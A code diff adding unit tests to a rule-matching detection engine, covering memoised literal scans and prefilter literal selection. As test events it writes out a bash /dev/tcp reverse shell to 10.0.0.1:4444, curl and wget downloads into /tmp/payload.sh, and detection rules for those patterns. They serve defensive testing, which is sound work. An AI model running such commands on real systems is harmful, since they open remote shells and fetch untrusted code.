@@ -8,6 +8,9 @@
 #include <atomic>
 #include <cstdlib>
 #include <new>
+#include <string>
+#include <tuple>
+#include <vector>
 
 #include "eql/compile/compiler.h"
 #include "match/engine.h"
@@ -441,6 +444,68 @@ TEST_F(EngineTest, AnchoredLiteralsAndRegexLiteralsGateEvaluation) {
   EXPECT_EQ(sink.hits[5].rule, 3u);
 }
 
+// The literal scan keeps, per field, what recent values met (RuleMatcher::ScanMemo): a value
+// seen again must select exactly what a fresh scan selects, whatever its case, its anchors,
+// and when more distinct values than the memo holds evict each other. Compared with the
+// reference path, which runs every predicate in full.
+TEST_F(EngineTest, ScanMemoSelectsWhatAFreshScanSelects) {
+  const std::vector<std::string> qs = {
+      "process where process.command_line : \"*/dev/tcp/*\"",
+      "process where process.command_line : \"/usr/bin/curl -s *\"",          // prefix
+      "process where process.command_line : \"* --output /tmp/payload.sh\"",  // suffix
+      "process where process.command_line : \"/bin/sh -c id; uname -a\"",     // whole value
+      "process where process.command_line : \"*vm.swappiness*\" and process.name == \"sysctl\"",
+  };
+  std::vector<Event> events;
+  const char* cmds[] = {"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+                        "/usr/bin/curl -s http://10.0.0.1/x --output /tmp/payload.sh",
+                        "/USR/BIN/CURL -s http://10.0.0.1/x",  // `:` ignores case
+                        "/usr/bin/wget -s http://10.0.0.1/x --output /tmp/payload.sh",
+                        "x /usr/bin/curl -s http://10.0.0.1/x",  // the prefix, not at the start
+                        "/bin/sh -c id; uname -a",
+                        "/bin/sh -c id; uname -a; w",  // the whole value, then more
+                        "sysctl -w vm.swappiness=100"};
+  for (int round = 0; round < 3; ++round) {
+    for (const char* c : cmds) events.push_back(proc(round == 1 ? "sysctl" : "sh", 0, c));
+  }
+  // More distinct values than the memo has slots, twice over: colliding values evict each other.
+  for (int round = 0; round < 2; ++round) {
+    for (int k = 0; k < 1500; ++k) {
+      events.push_back(proc("sh", 0, "/usr/bin/curl -s http://10.0.0." + std::to_string(k) + "/"));
+      events.push_back(proc("sh", 0, "/bin/true --arg=" + std::to_string(k)));
+    }
+  }
+  auto run = [&](bool reference) {
+    set_reference_matching(reference);
+    auto rules = compile(qs);
+    set_reference_matching(false);
+    auto m = rules->make_matcher();
+    Sink sink;
+    for (const Event& e : events) m->process(e, sink);
+    std::vector<std::pair<uint32_t, std::string>> out;
+    for (const Hit& h : sink.hits) out.emplace_back(h.rule, h.names.at(0));
+    auto* info = dynamic_cast<const RuleMatcherInfo*>(m.get());
+    EXPECT_NE(info, nullptr);
+    return std::make_tuple(out, info ? info->memo_hits() : 0, info ? info->memo_misses() : 0);
+  };
+  const auto [fast, memo_hits, memo_misses] = run(false);
+  const auto [reference, unused_hits, unused_misses] = run(true);
+  EXPECT_EQ(fast, reference);
+  // 3 rounds of the 8 commands: 0 (the reference builds no literal scan), then every repeat
+  // of a command line is a memo hit and every first sight a miss.
+  EXPECT_EQ(unused_hits + unused_misses, 0u);
+  EXPECT_GE(memo_hits, 16u);
+  EXPECT_GE(memo_misses, 8u + 2 * 3000u - 2 * 512u);
+  // Per round: 2 curl prefixes + 1 suffix + 1 /dev/tcp + 1 whole; sysctl only in round 1.
+  size_t per_rule[5] = {};
+  for (const auto& [rule, name] : fast) ++per_rule[rule];
+  EXPECT_EQ(per_rule[0], 3u);
+  EXPECT_EQ(per_rule[1], 6u + 3000u);
+  EXPECT_EQ(per_rule[2], 6u);
+  EXPECT_EQ(per_rule[3], 3u);
+  EXPECT_EQ(per_rule[4], 1u);
+}
+
 TEST_F(EngineTest, MaxspanExpiryWithEventTimeGoingBack) {
   auto rules =
       compile({"sequence by process.entity_id with maxspan=10s [process where process.name == "
@@ -517,6 +582,40 @@ TEST_F(EngineTest, RequirementExtraction) {
   ASSERT_TRUE(r);
   EXPECT_EQ(r->kind, RequirementKind::kInt);
   EXPECT_EQ(r->ints, std::vector<int64_t>{4444});
+}
+
+// Elastic's rules pair a list of everyday names with a rare literal (`process.name in ("bash",
+// "sh", ...) and process.command_line like "*vm.swappiness*"`): the long literal, or an anchored
+// one of 5+ bytes, keys the rule, not the list of names; a short literal does not.
+TEST(Prefilter, LongOrAnchoredLiteralOutranksAListOfNames) {
+  Program p;
+  StringMatcherSpec shells;
+  shells.kind = StrMatchKind::kExact;
+  shells.patterns = {"bash", "sh", "dash"};
+  const NodeRef names = p.str_match(p.field(fields::kProcessName, StaticType::kString),
+                                    StringMatcher::create(shells, nullptr));
+  auto literal = [&](FieldId field, std::string pattern) {
+    StringMatcherSpec w;
+    w.kind = StrMatchKind::kWildcard;
+    w.question_mark = true;
+    w.mode = CaseMode::kInsensitive;
+    w.patterns = {std::move(pattern)};
+    return p.str_match(p.field(field, StaticType::kString), StringMatcher::create(w, nullptr));
+  };
+  const NodeRef swappiness[] = {names, literal(fields::kProcessCommandLine, "*vm.swappiness*")};
+  auto r = extract_requirement(p, p.and_(swappiness));
+  ASSERT_TRUE(r);
+  EXPECT_EQ(r->field, fields::kProcessCommandLine);
+  EXPECT_EQ(r->literals, std::vector<std::string>{"vm.swappiness"});
+  const NodeRef python[] = {names, literal(fields::kProcessParentName, "python*")};
+  r = extract_requirement(p, p.and_(python));
+  ASSERT_TRUE(r);
+  EXPECT_EQ(r->field, fields::kProcessParentName);
+  const NodeRef short_literal[] = {names, literal(fields::kProcessCommandLine, "*-c*")};
+  r = extract_requirement(p, p.and_(short_literal));
+  ASSERT_TRUE(r);
+  EXPECT_EQ(r->field, fields::kProcessName);
+  EXPECT_EQ(r->kind, RequirementKind::kExact);
 }
 
 TEST(HashBytes, FoldedHashIgnoresAsciiCaseOnly) {
